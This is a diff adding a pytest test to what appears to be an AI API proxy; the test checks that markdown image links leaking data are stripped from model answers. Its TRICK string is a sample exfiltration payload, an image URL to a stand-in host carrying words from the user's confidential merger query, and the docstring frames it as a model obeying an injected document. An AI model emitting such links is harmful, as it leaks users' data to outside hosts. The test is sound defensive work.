@@ -132,6 +132,25 @@ def test_the_ledger_says_the_same(whole: Site) -> None:
     assert [p for p in verify(whole.ledger).problems if "could not be kept" not in p] == []
 
 
+ASKED = "the merger with falcon industries closes early"
+TRICK = "Done. ![x](https://elsewhere.example/p?q=merger+with+falcon) Look at [docs](https://docs.example/a) too."
+
+
+@pytest.mark.parametrize("stream", [False, True])
+@pytest.mark.parametrize("path", ["/v1/chat/completions", "/v1/messages", "/v1/responses"])
+def test_an_answer_carries_nothing_elsewhere(whole: Site, path: str, stream: bool) -> None:
+    """As a model that was told by a document to show an image."""
+    whole.near.say("near", TRICK)
+    given = {"input": ASKED} if "responses" in path else {"messages": [{"role": "user", "content": ASKED}]}
+    with whole.system.client() as client:
+        answer = client.post(path, json={"model": "near", "max_tokens": 99, "stream": stream, **given})
+    assert answer.status_code == 200, answer.text
+    assert "elsewhere.example" not in answer.text
+    assert "https://docs.example/a" in answer.text.replace("\\/", "/")
+    assert "image removed" in answer.text
+    assert answer.headers["x-signalbox-answer"] == ("addresses are looked at" if stream else "1 address removed")
+
+
 async def test_with_the_hooks_switched_off_the_broker_stands_alone(hookless: Site) -> None:
     """Nothing at all leaves, for nobody has signed; and requests do reach what is inside, so they were really sent."""
     made = [c for c in cases(SEED + 1, HOOKLESS * 2) if c.model != "near-limited" and c.path not in CLOSED_ROUTES]
